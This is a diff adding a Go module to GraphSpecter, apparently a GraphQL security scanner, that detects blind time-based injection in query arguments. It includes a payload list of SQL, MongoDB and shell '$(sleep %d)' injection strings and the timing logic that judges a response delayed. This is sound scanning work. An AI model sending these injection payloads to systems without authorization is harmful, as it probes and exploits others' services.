@@ -0,0 +1,220 @@
+package attacks
+
+import (
+	"context"
+	"fmt"
+	"math"
+	"sort"
+	"time"
+
+	"github.com/CyberRoute/graphspecter/pkg/logger"
+	"github.com/CyberRoute/graphspecter/pkg/network"
+	"github.com/CyberRoute/graphspecter/pkg/schema"
+	"github.com/CyberRoute/graphspecter/pkg/types"
+)
+
+// Defaults of InjectionOptions
+const (
+	DefaultInjectionDelay  = 5 * time.Second
+	DefaultInjectionFactor = 3.0
+	DefaultInjectionTrials = 3
+)
+
+// baselineRequests is the number of benign requests whose median latency is
+// the baseline of an argument.
+const baselineRequests = 5
+
+// benignValue is sent in the probed argument to measure the baseline.
+const benignValue = "graphspecter"
+
+// TimePayload makes a vulnerable backend wait before answering.
+type TimePayload struct {
+	Technique string
+	// Template holds the delay in seconds as %d.
+	Template string
+}
+
+// Value renders p with a delay of seconds.
+func (p TimePayload) Value(seconds int) string {
+	return fmt.Sprintf(p.Template, seconds)
+}
+
+// TimePayloads are the time-based payloads sent in each probed argument.
+var TimePayloads = []TimePayload{
+	{Technique: "mysql", Template: "' OR SLEEP(%d)-- -"},
+	{Technique: "mysql-numeric", Template: "1 OR SLEEP(%d)"},
+	{Technique: "postgresql", Template: "'; SELECT pg_sleep(%d)--"},
+	{Technique: "mssql", Template: "'; WAITFOR DELAY '0:0:%d'--"},
+	{Technique: "oracle", Template: "' OR 1=DBMS_PIPE.RECEIVE_MESSAGE('gs',%d)--"},
+	{Technique: "mongodb-where", Template: `{"$where":"sleep(%d000)"}`},
+	{Technique: "mongodb-js", Template: "'; sleep(%d000); var gs='"},
+	{Technique: "shell", Template: "$(sleep %d)"},
+}
+
+// InjectionOptions controls ProbeTiming. Zero values select the defaults.
+type InjectionOptions struct {
+	// Delay is the time the payloads ask the backend to wait, in whole seconds.
+	Delay time.Duration
+	// Factor is how many times the baseline a payload response must take to
+	// count as delayed.
+	Factor float64
+	// Trials is the number of times a delayed payload is sent; it must be
+	// delayed every time.
+	Trials int
+}
+
+func (o InjectionOptions) withDefaults() InjectionOptions {
+	if o.Delay < time.Second {
+		o.Delay = DefaultInjectionDelay
+	}
+	if o.Factor <= 1 {
+		o.Factor = DefaultInjectionFactor
+	}
+	if o.Trials < 1 {
+		o.Trials = DefaultInjectionTrials
+	}
+	return o
+}
+
+// InjectionTarget is a query argument payloads are sent in.
+type InjectionTarget struct {
+	Operation string
+	Argument  string
+	// Document is the minimal query of Operation with Argument bound to
+	// $value (schema.ProbeVariable).
+	Document string
+}
+
+// InjectionTargets returns the String and ID arguments of the queries of s.
+// Mutations are never probed.
+func InjectionTargets(s *types.GQLSchema) []InjectionTarget {
+	if s == nil || s.Query == nil {
+		return nil
+	}
+	index := schema.NewIndex(s)
+	var targets []InjectionTarget
+	for _, f := range s.Query.Fields {
+		for _, arg := range f.Args {
+			underlying := &arg.Type
+			for underlying.OfType != nil {
+				underlying = underlying.OfType
+			}
+			if underlying.Kind != types.SCALAR || (underlying.Name != "String" && underlying.Name != "ID") {
+				continue
+			}
+			doc, err := index.GenerateArgumentProbe(f.Name, arg.Name)
+			if err != nil {
+				logger.Debug("→ Not probing %s(%s): %v", f.Name, arg.Name, err)
+				continue
+			}
+			targets = append(targets, InjectionTarget{Operation: f.Name, Argument: arg.Name, Document: doc})
+		}
+	}
+	return targets
+}
+
+// TimingResult is a payload that delayed the response in every trial.
+type TimingResult struct {
+	Target  InjectionTarget
+	Payload TimePayload
+	Value   string
+	// Baseline is the median latency of the benign requests, Threshold the
+	// latency above which a response counted as delayed.
+	Baseline  time.Duration
+	Threshold time.Duration
+	Latencies []time.Duration
+}
+
+// ProbeTiming measures the baseline latency of t, the median of five benign
+// requests, then sends each of TimePayloads in its argument. A response is
+// delayed when it takes Factor times the baseline and at least half of Delay
+// longer than it, so that small baselines are not tipped over by network
+// jitter. A delayed payload is sent again until Trials responses were all
+// delayed; the first prompt response clears it. The latencies are those the
+// network layer measures, without the wait for the rate limiter.
+func ProbeTiming(ctx context.Context, url string, t InjectionTarget, headers map[string]string, opts InjectionOptions) ([]TimingResult, error) {
+	opts = opts.withDefaults()
+	var baselines []time.Duration
+	for i := 0; i < baselineRequests; i++ {
+		d, err := timedSend(ctx, url, t.Document, benignValue, headers)
+		if err != nil {
+			return nil, fmt.Errorf("error measuring the baseline of %s(%s): %w", t.Operation, t.Argument, err)
+		}
+		baselines = append(baselines, d)
+	}
+	baseline := median(baselines)
+	threshold := time.Duration(float64(baseline) * opts.Factor)
+	if min := baseline + opts.Delay/2; threshold < min {
+		threshold = min
+	}
+	seconds := int(math.Round(opts.Delay.Seconds()))
+
+	var results []TimingResult
+	for _, p := range TimePayloads {
+		value := p.Value(seconds)
+		var latencies []time.Duration
+		for trial := 0; trial < opts.Trials; trial++ {
+			d, err := timedSend(ctx, url, t.Document, value, headers)
+			if ctx.Err() != nil {
+				return results, ctx.Err()
+			}
+			if err != nil {
+				logger.Debug("→ %s payload in %s(%s) failed: %v", p.Technique, t.Operation, t.Argument, err)
+				break
+			}
+			latencies = append(latencies, d)
+			if d < threshold {
+				break
+			}
+		}
+		if len(latencies) == opts.Trials && latencies[len(latencies)-1] >= threshold {
+			results = append(results, TimingResult{
+				Target:    t,
+				Payload:   p,
+				Value:     value,
+				Baseline:  baseline,
+				Threshold: threshold,
+				Latencies: latencies,
+			})
+		}
+	}
+	return results, nil
+}
+
+// PlanInjection returns the requests ProbeTiming sends for targets: the
+// baseline and one request per payload, and up to Trials per payload when
+// every payload is delayed.
+func PlanInjection(targets []InjectionTarget, opts InjectionOptions) (min, max int) {
+	opts = opts.withDefaults()
+	for range targets {
+		min += baselineRequests + len(TimePayloads)
+		max += baselineRequests + len(TimePayloads)*opts.Trials
+	}
+	return min, max
+}
+
+// timedSend sends document with value as its probe variable and returns the
+// latency of the response. Responses that are not valid GraphQL, such as the
+// error pages of a failing backend, are timed as well; only requests that got
+// no response fail.
+func timedSend(ctx context.Context, url, document, value string, headers map[string]string) (time.Duration, error) {
+	var info network.ResponseInfo
+	_, err := network.SendGraphQLRequestWithContext(network.WithResponseInfo(ctx, &info), url, document, map[string]interface{}{schema.ProbeVariable: value}, headers)
+	if info.StatusCode == 0 {
+		if err == nil {
+			err = fmt.Errorf("no response from %s", url)
+		}
+		return 0, err
+	}
+	return info.Duration, nil
+}
+
+// median returns the median of durations, which it sorts.
+func median(durations []time.Duration) time.Duration {
+	sort.Slice(durations, func(i, j int) bool { return durations[i] < durations[j] })
+	n := len(durations)
+	if n%2 == 1 {
+		return durations[n/2]
+	}
+	return (durations[n/2-1] + durations[n/2]) / 2
+}